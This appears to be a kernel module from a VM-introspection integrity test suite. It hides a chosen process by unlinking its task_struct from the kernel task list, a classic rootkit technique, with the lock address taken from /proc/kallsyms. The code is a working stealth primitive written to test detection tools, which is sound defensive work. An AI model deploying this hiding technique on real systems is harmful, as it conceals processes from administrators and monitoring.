// SPDX-License-Identifier: GPL-2.0
/*
 * vmiaas_attack_hideproc: process hiding, for the integrity tests.
 * Unlinks the task of @pid (a thread-group leader) from the task list
 * (init_task.tasks), the classic technique: for_each_process() no longer
 * sees it, while its struct pid stays in the pid namespace's IDR.
 *
 * tasklist_lock is not exported; its address comes from /proc/kallsyms
 * (tasklist=0x...). After unlinking, once RCU readers are done, the
 * node points at itself, so the task's own exit (__unhash_process())
 * unlinks it harmlessly. Unloading puts the task back if it still lives.
 */
#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/init.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/spinlock.h>

static int pid;
module_param(pid, int, 0444);
MODULE_PARM_DESC(pid, "process to hide");

static unsigned long tasklist;
module_param(tasklist, ulong, 0444);
MODULE_PARM_DESC(tasklist, "address of tasklist_lock (from /proc/kallsyms)");

static struct task_struct *victim;

static int __init vmiaas_attack_hideproc_init(void)
{
	rwlock_t *lock = (rwlock_t *)tasklist;
	struct pid *p;

	if (pid <= 1 || !tasklist)
		return -EINVAL;
	p = find_get_pid(pid);
	victim = p ? get_pid_task(p, PIDTYPE_PID) : NULL;
	put_pid(p);
	if (!victim)
		return -ESRCH;
	if (!thread_group_leader(victim)) {
		put_task_struct(victim);
		return -EINVAL;
	}
	write_lock_irq(lock);
	list_del_rcu(&victim->tasks);
	write_unlock_irq(lock);
	synchronize_rcu();
	write_lock_irq(lock);
	INIT_LIST_HEAD(&victim->tasks);
	write_unlock_irq(lock);
	pr_info("pid %d (%s) unlinked from the task list\n", pid, victim->comm);
	return 0;
}

static void __exit vmiaas_attack_hideproc_exit(void)
{
	rwlock_t *lock = (rwlock_t *)tasklist;

	write_lock_irq(lock);
	if (pid_alive(victim) && list_empty(&victim->tasks))
		list_add_tail_rcu(&victim->tasks, &init_task.tasks);
	write_unlock_irq(lock);
	put_task_struct(victim);
}

module_init(vmiaas_attack_hideproc_init);
module_exit(vmiaas_attack_hideproc_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmiaas test: hiding a process from the task list");
